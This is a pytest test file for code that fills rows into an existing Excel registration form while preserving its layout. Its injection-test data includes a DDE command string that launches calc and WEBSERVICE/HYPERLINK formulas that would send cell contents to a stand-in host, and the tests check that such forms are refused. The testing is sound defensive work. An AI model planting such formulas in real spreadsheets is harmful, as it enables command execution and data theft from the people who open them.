"""A form of somebody else's keeps its look: only rows come in, and what stands below moves down."""

import io
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.table import Table
from python_calamine import CalamineWorkbook

from awards.their_form import filled_in, read_form
from competition.errors import Refused
from tests.factories.forms_above import GUANGZHOU, NOTE, SIGNED, their_form
from tests.factories.late import MAN

NAUGHTY = [
    "=1+1",
    "+86",
    "-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "341199201205010027",
    "007",
    "_x0041_",
    "a\x00b",
    "甲\n乙",
]


@contextmanager
def refused(code: str) -> Iterator[None]:
    with pytest.raises(Refused) as found:
        yield
    assert found.value.denial.code == code


def sheet_of(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def filled(data: bytes, number: int = 6) -> bytes:
    form = read_form(data)
    rows = [[at if one.code == "row" else f"{one.heading}{at}" if one.code else "" for one in form.columns]
            for at in range(1, number + 1)]  # fmt: skip
    return filled_in(data, sheet=form.sheet, first=form.first, columns=form.columns, rows=rows)


def merges(sheet) -> set[str]:
    return {str(one) for one in sheet.merged_cells.ranges}


@pytest.mark.parametrize("year", GUANGZHOU)
@pytest.mark.parametrize("number", [2, 3, 9])
def test_rows_stand_under_the_headings_and_the_notes_below_them(year, number):
    row, _left, headings = GUANGZHOU[year]
    empty = their_form(headings, row=row)
    before, after = sheet_of(empty), sheet_of(filled(empty, number))
    down = max(0, number - 3)
    for at in range(1, row + 1):  # titles and headings
        assert [cell.value for cell in after[at]] == [cell.value for cell in before[at]]
        assert [cell.font.name for cell in after[at]] == [cell.font.name for cell in before[at]]
    for at in range(number):
        said = [str(at + 1) if one == "序号" else f"{one}{at + 1}" for one in headings]
        said = ["None" if one.startswith("备注") else one for one in said]
        assert [str(cell.value) for cell in after[row + 1 + at]] == said
        assert {cell.border.left.style for cell in after[row + 1 + at]} == {"thin"}
        assert {cell.font.name for cell in after[row + 1 + at]} == {"仿宋"}
        assert after.row_dimensions[row + 1 + at].height == 27
    foot = row + 4 + down
    assert (after.cell(foot, 1).value, after.cell(foot + 1, 1).value) == (NOTE, SIGNED)
    assert after.row_dimensions[foot].height == 33 and after.cell(foot, 1).font.name == "楷体"
    assert after.cell(foot + 1, 2).value == f"=COUNTA(B{row + 1}:B{row + 3 + down})"
    last = get_column_letter(len(headings))
    assert {f"A{at}:{last}{at}" for at in (*range(1, row), foot)} <= merges(after)
    assert len(merges(after)) == len(merges(before)) and after.max_row == before.max_row + down
    assert str(after.data_validations.dataValidation[0].sqref) == f"E{row + 1}:E{row + 3 + down}"
    assert after.print_area == f"'报名表'!$A$1:${last}${row + 5 + down}" and after.print_title_rows == f"$1:${row}"
    assert (after.page_setup.orientation, after.page_setup.paperSize) == ("landscape", 8)
    assert {key: one.width for key, one in after.column_dimensions.items()} == {
        key: one.width for key, one in before.column_dimensions.items()
    }


def test_naughty_texts_stay_text_and_every_digit():
    empty = their_form(["序号", *(f"列{at}" for at in range(len(NAUGHTY)))])
    form = read_form(empty)
    done = filled_in(empty, sheet=form.sheet, first=4, columns=form.columns, rows=[[1, *NAUGHTY]])
    row = CalamineWorkbook.from_filelike(io.BytesIO(done)).get_sheet_by_index(0).to_python()[3]
    assert row[1:8] == NAUGHTY[:7] and row[9:] == ["ab", "甲\n乙"]
    part = zipfile.ZipFile(io.BytesIO(done)).read("xl/worksheets/sheet1.xml")
    assert part.count(b"<f>") == 1 and b"_x005F_x0041_" in part  # the form's own sum; an escape that was typed
    cells = sheet_of(done)[4][1:]
    assert {cell.number_format for cell in cells} == {"@"} and {cell.data_type for cell in cells} <= {"s", "inlineStr"}


def test_equal_forms_and_rows_give_equal_bytes_and_parts_that_name_no_row_stay_as_they_are():
    empty = their_form(GUANGZHOU["2025"][2], picture=True)
    done = filled(empty)
    assert done == filled(empty)
    was, now = (zipfile.ZipFile(io.BytesIO(data)) for data in (empty, done))
    assert was.namelist() == now.namelist()
    same = {name for name in was.namelist() if was.read(name) == now.read(name)}
    assert {"xl/media/image1.png", "xl/theme/theme1.xml", "docProps/core.xml", "xl/worksheets/sheet2.xml"} <= same


def test_a_picture_below_moves_with_the_notes():
    empty = their_form(GUANGZHOU["2025"][2], picture=True)
    (before,), (after,) = sheet_of(empty)._images, sheet_of(filled(empty, 9))._images
    assert after.anchor._from.row == before.anchor._from.row + 6


def test_a_text_that_is_wider_than_its_column_is_read_whole():
    empty = their_form(["序号", "项目名称"])
    form = read_form(empty)
    rows = [[1, "会走路的花盆和一只会飞的水壶的研究" * 2], [2, "花盆"]]
    after = sheet_of(filled_in(empty, sheet=form.sheet, first=4, columns=form.columns, rows=rows))
    assert after["B4"].alignment.wrap_text and not after["B5"].alignment.wrap_text
    assert after.row_dimensions[4].height > after.row_dimensions[5].height == 27


def test_without_an_empty_row_the_look_is_that_of_the_headings_in_plain_letters():
    empty = their_form(GUANGZHOU["2025"][2], empty=0)
    assert (read_form(empty).first, read_form(empty).below) == (4, 4)
    after = sheet_of(filled(empty, 2))
    assert after["B4"].value == "项目1" and after.cell(6, 1).value == NOTE
    assert after["B4"].font.name == "黑体" and not after["B4"].font.b and after["B4"].fill.fill_type is None
    assert after["B4"].border.left.style == "thin" and after["B3"].font.b


def test_without_notes_as_many_rows_follow_as_there_are_and_all_are_printed():
    empty = their_form(GUANGZHOU["2025"][2], has_notes=False)
    assert read_form(empty).below == 0
    after = sheet_of(filled(empty, 40))
    assert after.max_row == 43 and after["B43"].border.left.style == "thin"
    assert after.print_area.endswith("$43") and str(after.data_validations.dataValidation[0].sqref) == "E4:E43"


def test_headings_of_two_storeys_say_whose_a_column_is_and_cells_joined_in_a_row_are_joined_in_all():
    book = openpyxl.Workbook()
    sheet = book.active
    for place, text in {"A1": "报名表", "A2": "序号", "B2": "项目名称", "D2": "作者", "F2": "辅导教师", "D3": "姓名",
                        "E3": "性别", "F3": "姓名", "G3": "电话", "A6": "说明"}.items():  # fmt: skip
        sheet[place] = text
    for place in ("A1:G1", "A2:A3", "B2:C3", "D2:E2", "F2:G2", "B4:C4", "B5:C5"):
        sheet.merge_cells(place)
    out = io.BytesIO()
    book.save(out)
    form = read_form(out.getvalue())
    assert (form.first, form.below) == (4, 6)
    assert [(one.at, one.heading, one.code) for one in form.columns] == [
        (1, "序号", "row"), (2, "项目名称", "title"), (4, "作者·姓名", "authors"), (5, "作者·性别", ""),
        (6, "辅导教师·姓名", ""), (7, "辅导教师·电话", "late-tutor-phone"),
    ]  # fmt: skip
    after = sheet_of(filled(out.getvalue(), 4))
    assert {"B4:C4", "B5:C5", "B6:C6", "B7:C7", "B2:C3"} <= merges(after) and after["A8"].value == "说明"
    assert after["B7"].value == "项目名称4" and after["F7"].value is None


def form_of(cells: dict[str, str], joined: tuple[str, ...] = ()) -> bytes:
    book = openpyxl.Workbook()
    for place, text in cells.items():
        book.active[place] = text
    for place in joined:
        book.active.merge_cells(place)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_groups_over_the_headings_say_whose_a_column_is_though_nothing_is_joined_downwards():
    form = read_form(
        form_of(
            {"A1": "报名表", "A2": "序号", "B2": "辅导教师", "D2": "作者", "F2": "项目名称", "B3": "姓名",
             "C3": "身份证号", "D3": "姓名", "E3": "性别"},
            ("A1:G1", "B2:C2", "D2:E2", "F2:G2"),
        )
    )  # fmt: skip
    assert form.first == 4
    assert [(one.at, one.heading, one.code) for one in form.columns] == [
        (1, "序号", "row"), (2, "辅导教师·姓名", ""), (3, "辅导教师·身份证号", "late-tutor-id_number"),
        (4, "作者·姓名", "authors"), (5, "作者·性别", ""), (6, "项目名称", "title"),
    ]  # fmt: skip


def test_a_place_for_a_stamp_beside_the_rows_is_no_heading_and_tall_headings_are():
    cells = {"A1": "报名表", "A2": "序号", "B2": "项目名称", "C2": "姓名", "D2": "单位盖章", "A9": "说明"}
    form = read_form(form_of(cells, ("A1:D1", "D2:D8")))
    assert (form.first, form.below) == (3, 9)
    tall = read_form(form_of(cells, ("A1:D1", "A2:A3", "B2:B3", "C2:C3")))
    assert (tall.first, tall.below) == (4, 9)


def test_no_value_is_lost_under_cells_that_a_form_joins_over_two_headings():
    empty = form_of({"A1": "序号", "B1": "项目名称", "C1": "姓名", "A4": "说明"}, ("B2:C2", "B3:C3"))
    after = sheet_of(filled(empty, 2))
    assert [after.cell(2, at).value for at in (2, 3)] == ["项目名称1", "姓名1"] and not merges(after)


def test_a_line_over_the_headings_that_is_filled_in_by_hand_is_no_group():
    form = read_form(
        form_of({"A1": "报名表", "A2": "学校：", "C2": "联系人：", "A3": "序号", "B3": "项目名称", "C3": "姓名"},
                ("A1:D1", "A2:B2", "C2:D2"))
    )  # fmt: skip
    assert [(one.heading, one.code) for one in form.columns] == [
        ("序号", "row"), ("项目名称", "title"), ("姓名", "author"),
    ]  # fmt: skip


def test_tables_remarks_and_numbers_by_formula_come_along():
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (["序号", "项目", "编号"], ["=ROW()-1", None, None], ["=ROW()-1", None, None], ["说明"]):
        sheet.append(row)
    sheet["D2"] = ArrayFormula("D2:D3", "=B2:B3")
    sheet["A4"].comment = Comment("盖章", "省")
    sheet.add_table(Table(displayName="表一", ref="A1:C3"))
    other = book.create_sheet("合计")
    other["A1"] = "=Sheet!A4"
    out = io.BytesIO()
    book.save(out)
    done = openpyxl.load_workbook(io.BytesIO(filled(out.getvalue(), 5)))
    after = done.worksheets[0]
    assert [after.cell(at, 1).value for at in range(2, 7)] == [1, 2, 3, 4, 5]
    assert after["A7"].value == "说明" and after["A7"].comment.text == "盖章"
    assert after.tables["表一"].ref == "A1:C6" and done["合计"]["A1"].value == "=Sheet!A7"
    assert after["D2"].value is None


@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://x.example/"&B4)', '=HYPERLINK("http://x.example/"&B4)',
                                     "=[1]别!A1", "=cmd|'/C calc'!A0"])  # fmt: skip
def test_a_form_that_could_carry_away_what_is_filled_in_is_refused(formula):
    book = openpyxl.Workbook()
    book.active.append(["项目", "学校"])
    book.active["D9"] = formula
    out = io.BytesIO()
    book.save(out)
    with refused("layout-form-links"):
        read_form(out.getvalue())


def test_a_filter_and_its_name_grow_alike():
    book = openpyxl.load_workbook(io.BytesIO(their_form(["序号", "项目名称"])))
    book.worksheets[0].auto_filter.ref = "A3:B6"
    out = io.BytesIO()
    book.save(out)
    done = filled(out.getvalue(), 9)
    assert sheet_of(done).auto_filter.ref == "A3:B12"
    assert b"$A$3:$B$12" in zipfile.ZipFile(io.BytesIO(done)).read("xl/workbook.xml")


def with_part(name: str, data: bytes, kind: str = "") -> bytes:
    """A form with another part, and a relation to it."""
    out, link = (
        io.BytesIO(),
        f'<Relationship Id="rIdX" Type="http://x.example/{kind}" Target="/{name}"/></Relationships>',
    )
    with (
        zipfile.ZipFile(io.BytesIO(form_of({"A1": "项目", "B1": "学校"}))) as was,
        zipfile.ZipFile(out, "w", 8) as made,
    ):
        for one in was.namelist():
            found = was.read(one)
            is_where = kind and one == "xl/_rels/workbook.xml.rels"
            made.writestr(one, found.replace(b"</Relationships>", link.encode()) if is_where else found)
        made.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["connections", "externalLink", "queryTable"])
def test_data_from_elsewhere_is_refused_whatever_its_part_is_called(kind):
    with refused("layout-form-links"):
        read_form(with_part("xl/other.xml", b"<a/>", kind))


@pytest.mark.parametrize("parts", [1, 5])
def test_a_form_that_unpacks_to_more_than_a_form_is_refused(parts, monkeypatch):
    monkeypatch.setattr("awards.their_form.book.MOST", 30_000)
    monkeypatch.setattr("awards.their_form.book.MOST_OF_ALL", 120_000)
    data = with_part("xl/other.xml", b"<a>" + b"x" * (40_000 if parts == 1 else 25_000) + b"</a>")
    for at in range(1, parts):
        out = io.BytesIO(data)
        with zipfile.ZipFile(out, "a", 8) as made:
            made.writestr(f"xl/other{at}.xml", b"<a>" + b"x" * 25_000 + b"</a>")
        data = out.getvalue()
    with refused("layout-form-large"):
        read_form(data)


def test_no_row_is_higher_than_excel_knows():
    empty = form_of({"A1": "序号", "B1": "项目简介"})
    form = read_form(empty)
    done = filled_in(empty, sheet=form.sheet, first=form.first, columns=form.columns, rows=[[1, "长" * 2000]])
    assert sheet_of(done).row_dimensions[2].height == 409


def with_people(where: str) -> bytes:
    """A form that was filled in last year: on its sheet, on a hidden one, or in a remark."""
    book = openpyxl.Workbook()
    book.active.append(["项目", "姓名", "身份证号"])
    hidden = book.create_sheet("去年")
    hidden.sheet_state = "hidden"
    if where == "remark":
        book.active["A1"].comment = Comment(f"例：{MAN}", "省")
    else:
        (hidden if where == "hidden" else book.active).append(["风车", "赵一", MAN])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("where", ["shown", "hidden", "remark"])
def test_a_form_with_somebody_s_id_number_is_refused(where):
    with refused("layout-form-filled"):
        read_form(with_people(where))


def test_numbers_that_are_nobody_s_do_no_harm():
    wrong = f"{MAN[:-1]}{'0' if MAN[-1] != '0' else '1'}"
    read_form(
        form_of({"A1": "项目", "B1": "身份证号", "A3": f"身份证号如{wrong}，18位", "A4": MAN[:-1], "A5": f"9{MAN}"})
    )


def test_a_list_is_no_empty_form():
    book = openpyxl.Workbook()
    for at in range(5_002):
        book.active.append(["项目", at])
    out = io.BytesIO()
    book.save(out)
    with refused("layout-form-rows"):
        read_form(out.getvalue())
